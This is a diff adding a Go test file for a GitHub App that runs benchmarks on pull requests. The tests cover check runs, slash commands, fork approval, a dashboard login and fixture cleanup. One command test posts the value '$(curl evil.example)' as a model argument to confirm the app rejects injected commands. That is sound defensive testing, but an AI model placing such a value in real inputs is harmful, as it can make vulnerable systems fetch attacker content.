@@ -1,0 +1,301 @@
+package appcli_test
+
+import (
+	"fmt"
+	"io"
+	"net/http"
+	"net/http/cookiejar"
+	"strings"
+	"testing"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+
+	"github.com/ghx-dev/bench-action/internal/sandbox/gitstore"
+	"github.com/ghx-dev/bench-action/internal/sandbox/model"
+	"github.com/ghx-dev/bench-action/internal/sandbox/sandboxtest"
+)
+
+func contains(texts []string, part string) bool {
+	for _, text := range texts {
+		if strings.Contains(text, part) {
+			return true
+		}
+	}
+	return false
+}
+
+// longer is trial with as many cells that something can happen meanwhile.
+const longer = "model: scripted\nexecutor: local\nscenario_set: ci-verify-pr\nrepetitions: 10\n"
+
+func TestAPullRequestGetsItsGate(t *testing.T) {
+	w := newWorld(t, longer)
+	s := w.serve()
+	w.open()
+	seen := map[model.Status]bool{}
+	w.until("the end", func() bool {
+		if c := w.last(); c != nil {
+			seen[c.Status] = true
+		}
+		return seen[model.Completed]
+	})
+	assert.True(t, seen[model.Queued] || seen[model.InProgress], "it was seen before it had completed")
+	check := *w.last()
+	assert.Equal(t, []any{"bench", w.head, model.Conclusion("neutral")}, []any{check.Name, check.HeadSHA, check.Conclusion}, "no model was involved")
+	assert.Contains(t, check.Output.Summary, "Simulated")
+	assert.Contains(t, check.Output.Text, "Active tokens")
+	assert.Contains(t, check.DetailsURL, "http://bench.example/runs/")
+	require.Len(t, check.Actions, 3)
+	w.said("imulated")
+	assert.Zero(t, s.stop(t), s.out)
+	assert.NotContains(t, s.out.String(), "ghs_")
+}
+
+func TestCommands(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, trial)
+	w.serve()
+	w.open()
+	w.concluded(1)
+	reaction := func(comment model.ID) string {
+		var all []string
+		w.until("a reaction", func() bool {
+			reply := w.As("owner").Get(fmt.Sprintf("%s/issues/comments/%d/reactions", sandboxtest.Path, comment))
+			all = nil
+			if reply.Text("0.content") != "" {
+				all = append(all, reply.Text("0.content"))
+			}
+			return len(all) > 0
+		})
+		return all[0]
+	}
+	assert.Equal(t, "-1", reaction(w.comment("writer", "/bench retry")))
+	w.said("`/bench retry`")
+	require.Len(t, w.checks(), 1, "nothing is missing")
+
+	assert.Equal(t, "+1", reaction(w.comment("writer", "/bench run --repetitions 1")))
+	w.concluded(2)
+
+	assert.Equal(t, "-1", reaction(w.comment("reader", "/bench run")))
+	assert.Equal(t, "confused", reaction(w.comment("writer", "/bench run --model '$(curl evil.example)'")))
+	assert.Equal(t, "confused", reaction(w.comment("writer", "/bench rnu")))
+	assert.Equal(t, "+1", reaction(w.comment("writer", "/bench status")))
+	w.comment("writer", "```\n/bench run\n```")
+	w.comment("writer", "> /bench run")
+	assert.Equal(t, "+1", reaction(w.comment("writer", "/bench help")))
+	assert.Len(t, w.checks(), 2)
+}
+
+func TestAForkIsMeasuredOnceItIsApproved(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, trial)
+	w.serve()
+	w.fork()
+	assert.Equal(t, model.Conclusion("action_required"), w.concluded(1).Conclusion)
+	w.comment("stranger", "/bench approve "+w.head)
+	w.comment("writer", "/bench run")
+	w.until("two answers", func() bool { return len(w.comments()) == 2 })
+	require.Len(t, w.checks(), 1, "nobody with the right to has approved it")
+	w.comment("writer", "/bench approve "+w.head)
+	assert.Equal(t, model.Conclusion("neutral"), w.concluded(2).Conclusion)
+
+	pushed := w.As("stranger").Do("PUT", "/repos/stranger/"+sandboxtest.Name+"/contents/more.ts", `{"message":"more","content":"eA==","branch":"main"}`)
+	require.Equal(t, http.StatusCreated, pushed.Status, pushed.Body)
+	assert.Equal(t, model.Conclusion("action_required"), w.concluded(3).Conclusion, "the approval was of another commit")
+}
+
+func TestAPushInTheMiddle(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, longer)
+	w.serve()
+	w.open()
+	w.until("it runs", func() bool { c := w.last(); return c != nil && c.Status == model.InProgress })
+	old := w.head
+	w.push("src/b.ts")
+	w.concluded(2)
+	checks := w.checks()
+	assert.Equal(t, []any{old, model.Conclusion("cancelled")}, []any{checks[0].HeadSHA, checks[0].Conclusion})
+	assert.Equal(t, []any{w.head, model.Conclusion("neutral")}, []any{checks[1].HeadSHA, checks[1].Conclusion})
+}
+
+func TestACancelAndARerequest(t *testing.T) {
+	t.Parallel()
+	w := newWorld(t, longer)
+	w.serve()
+	w.open()
+	w.until("it runs", func() bool { c := w.last(); return c != nil && c.Status == model.InProgress })
+	w.comment("writer", "/bench cancel")
+	check := w.concluded(1)
+	assert.Equal(t, model.Conclusion("cancelled"), check.Conclusion)
+	assert.Contains(t, check.Output.Summary, "writer")
+
+	w.Change(func(s *model.State, _ *model.Repo) {
+		require.NoError(t, s.Rerequest(s.User("writer").ID, s.CheckRuns.Get(check.ID)))
+	})
+	assert.Equal(t, model.Conclusion("neutral"), w.concluded(2).Conclusion)
+	assert.Contains(t, w.last().Output.Text, "| Runs | 20 | 20 |", "with the rows of the run that was cancelled")
+	w.comment("writer", "/bench retry")
+	w.said("there is nothing to do")
+	require.NoError(t, w.PressButton("writer", w.last().ID, "full"))
+	w.concluded(3)
+}
+
+// browser is somebody's, signed in at GitHub. Pages are those of the server,
+// which its public address leads to.
+func (w *world) browser(login string, s *server) *http.Client {
+	w.t.Helper()
+	jar, err := cookiejar.New(nil)
+	require.NoError(w.t, err)
+	w.AllowSignIn(login)
+	return &http.Client{Jar: jar, Transport: through(func(r *http.Request) (*http.Response, error) {
+		if r.URL.Path == "/login/oauth/authorize" {
+			query := r.URL.Query()
+			query.Set("login", login)
+			r.URL.RawQuery = query.Encode()
+		}
+		if r.URL.Host == "bench.example" {
+			r = r.Clone(r.Context())
+			r.URL.Host = s.address
+		}
+		return http.DefaultTransport.RoundTrip(r)
+	})}
+}
+
+type through func(*http.Request) (*http.Response, error)
+
+// RoundTrip sends a request.
+func (f through) RoundTrip(r *http.Request) (*http.Response, error) { return f(r) }
+
+// page returns a page of the dashboard.
+func page(t *testing.T, browser *http.Client, path string) (int, string) {
+	t.Helper()
+	response, err := browser.Get("http://bench.example" + path)
+	require.NoError(t, err)
+	defer response.Body.Close()
+	body, err := io.ReadAll(response.Body)
+	require.NoError(t, err)
+	return response.StatusCode, string(body)
+}
+
+func TestTheDashboardIsForThoseWhoSeeTheRepository(t *testing.T) {
+	w := newWorld(t, trial)
+	w.Change(func(s *model.State, _ *model.Repo) {
+		s.Apps.Get(w.app).CallbackURLs = []string{"http://bench.example/login/callback"}
+	})
+	s := w.serve("BENCH_APP_CLIENT_ID=Iv1.bench", "BENCH_APP_CLIENT_SECRET=a-client-secret")
+	w.open()
+	run := w.concluded(1).ExternalID
+
+	owner := w.browser("owner", s)
+	status, _ := page(t, owner, "/runs/"+run)
+	assert.Equal(t, http.StatusUnauthorized, status)
+	status, body := page(t, owner, "/login?next=/runs/"+run)
+	assert.Equal(t, http.StatusOK, status)
+	assert.Contains(t, body, run)
+	assert.Contains(t, body, "pr-view-001")
+	_, body = page(t, owner, "/")
+	assert.Contains(t, body, "/runs/"+run)
+	status, body = page(t, owner, "/runs/"+run+"/log")
+	assert.Equal(t, http.StatusOK, status)
+	assert.Contains(t, body, "$ bench verify --output-dir")
+
+	stranger := w.browser("stranger", s)
+	_, body = page(t, stranger, "/login?next=/")
+	assert.NotContains(t, body, run)
+	status, _ = page(t, stranger, "/runs/"+run)
+	assert.Equal(t, http.StatusNotFound, status)
+}
+
+func TestCheckSaysWhatTheAppLacks(t *testing.T) {
+	w := newWorld(t, trial)
+	w.Change(func(s *model.State, _ *model.Repo) {
+		app := s.Apps.Get(w.app)
+		app.Permissions["checks"], app.Events = "read", []string{"pull_request"}
+	})
+	code, said := run(t, append(w.env(), "BENCH_APP_PUBLIC_URL="), "check")
+	assert.Zero(t, code, said)
+	for _, part := range []string{"the permission checks: write", "the event issue_comment", "BENCH_APP_PUBLIC_URL", "the dashboard is off", "no key of a model's API"} {
+		assert.Contains(t, said, part)
+	}
+	other, _ := sandboxtest.Key(t)
+	code, said = run(t, append(w.env(), "BENCH_APP_PRIVATE_KEY="+string(other)), "check")
+	assert.Equal(t, 2, code)
+	assert.Contains(t, said, "does not accept the key")
+}
+
+// fixtures is a repository for fixtures, in which the App is installed too.
+const fixtures = "fixtures"
+
+// addFixtures adds it to an account.
+func (w *world) addFixtures(owner string) {
+	w.t.Helper()
+	w.Change(func(s *model.State, repo *model.Repo) {
+		account := s.User(owner).ID
+		added := s.AddRepo(model.NewRepo{Owner: account, Name: fixtures})
+		require.NoError(w.t, s.PushInitial(account, added, []gitstore.Change{{Path: "README.md", Content: []byte("# fixtures\n")}}, "first"))
+		app := s.Apps.Get(w.app)
+		repos := []model.ID{added.ID}
+		if account == repo.OwnerID {
+			repos = append(repos, repo.ID)
+		}
+		s.Install(account, app, account, repos)
+	})
+}
+
+// left counts what is in the fixtures repository besides its first commit.
+func (w *world) left() (open, branches int) {
+	w.Look(func(s *model.State) {
+		repo := s.Repo(sandboxtest.Owner, fixtures)
+		open = len(s.Issues.Where(func(i *model.Issue) bool { return i.RepoID == repo.ID && !i.Closed }))
+	})
+	reply := w.As("owner").Get("/repos/" + sandboxtest.Owner + "/" + fixtures + "/branches")
+	return open, strings.Count(reply.Body, `"name"`)
+}
+
+func TestFixturesAreSeededAndRemoved(t *testing.T) {
+	w := newWorld(t, trial+"target: owner/fixtures\n")
+	w.addFixtures(sandboxtest.Owner)
+	s := w.serve()
+	w.open()
+	check := w.concluded(1)
+	assert.Equal(t, model.Conclusion("neutral"), check.Conclusion, check.Output.Summary)
+	assert.Contains(t, check.Output.Summary, "Simulated")
+	open, branches := w.left()
+	assert.Equal(t, []int{0, 1}, []int{open, branches}, "what was seeded is removed")
+	made := 0
+	for _, entry := range w.Audit() {
+		if strings.HasPrefix(entry.Path, "/repos/owner/fixtures/") && entry.Write {
+			made++
+		}
+		assert.NotContains(t, s.out.String(), entry.Token+`"`)
+	}
+	assert.Positive(t, made)
+}
+
+func TestFixturesAreRemovedThoughTheRunWasCancelled(t *testing.T) {
+	w := newWorld(t, longer+"target: owner/fixtures\n")
+	w.addFixtures(sandboxtest.Owner)
+	w.serve()
+	w.open()
+	w.until("fixtures", func() bool { open, _ := w.left(); return open > 0 })
+	w.comment("writer", "/bench cancel")
+	assert.Equal(t, model.Conclusion("cancelled"), w.concluded(1).Conclusion)
+	w.until("what was seeded is removed", func() bool {
+		open, branches := w.left()
+		return open == 0 && branches == 1
+	})
+}
+
+// What a repository's settings name is not more than its owner has.
+func TestFixturesOfAnotherAccountAreNotTouched(t *testing.T) {
+	w := newWorld(t, trial+"target: stranger/fixtures\n")
+	w.addFixtures("stranger")
+	w.serve()
+	w.open()
+	check := w.concluded(1)
+	assert.Equal(t, model.Conclusion("action_required"), check.Conclusion)
+	assert.Contains(t, check.Output.Summary, "belongs to another account")
+	for _, entry := range w.Audit() {
+		assert.False(t, entry.Write && strings.HasPrefix(entry.Path, "/repos/stranger/fixtures"), entry.Path)
+	}
+}
